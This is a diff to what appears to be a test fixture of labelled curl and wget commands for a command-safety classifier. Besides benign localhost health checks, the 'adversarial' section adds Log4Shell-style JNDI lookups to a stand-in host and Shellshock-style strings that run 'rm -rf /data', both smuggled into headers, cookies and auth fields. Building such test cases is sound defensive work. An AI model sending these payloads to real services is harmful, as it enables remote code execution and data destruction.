@@ -57,6 +57,7 @@ export const everyday: Labelled[] = [
     curl -s http://localhost:8083/connectors/orders-sink/status | jq .
     curl -s http://localhost:8083/connectors?expand=status
     curl -s http://localhost:6060/debug/vars
+    curl -s -A 'Mozilla/5.0 (X11; Linux x86_64) lifeguard' http://localhost:8080/health
     curl -s http://localhost/nginx_status
     curl -s 'http://localhost:8404/stats;csv'
     curl -s 'http://localhost:9000/status?full&json'
@@ -69,6 +70,8 @@ export const everyday: Labelled[] = [
   `),
   // Reads a person starts: another host, a placeholder, a credential, a cost, a secret, no end, or a resource like any other.
   ...labelled('bash', 'read', false, `
+    curl -s -H "Authorization: Bearer {{ token }}" http://localhost:8080/health
+    curl -s -u {user}:{password} http://localhost:8080/health
     curl -s http://localhost:8080/api/v1/shipments/123/tracking
     curl -s 'http://localhost:8080/api/products/search?q=shoes'
     curl -s 'http://localhost:8080/api/weather/forecast?city=Oslo'
@@ -195,6 +198,13 @@ export const everyday: Labelled[] = [
 export const adversarial: Labelled[] = [
   // curl's own ways to do more than ask.
   ...labelled('bash', 'manual', false, `
+    curl -A '\${jndi:ldap://elsewhere/a}' http://localhost:8080/health
+    curl -H 'X-Request-Id: \${jndi:ldap://elsewhere/a}' http://localhost:8080/health
+    curl -H 'User-Agent: () { :; }; rm -rf /data' http://localhost:8080/health
+    curl -e '() { :; }; rm -rf /data' http://localhost:8080/health
+    curl -u '\${jndi:ldap://elsewhere/a}:x' http://localhost:8080/health
+    curl -b 'a=() { :; }; rm -rf /data' http://localhost:8080/health
+    wget -qO- -U '\${jndi:ldap://elsewhere/a}' http://localhost:8080/health
     curl -s http://localhost:9090/health | jq . > x
     curl -F a=b http://localhost:9090/health
     curl -T x http://localhost:9090/health
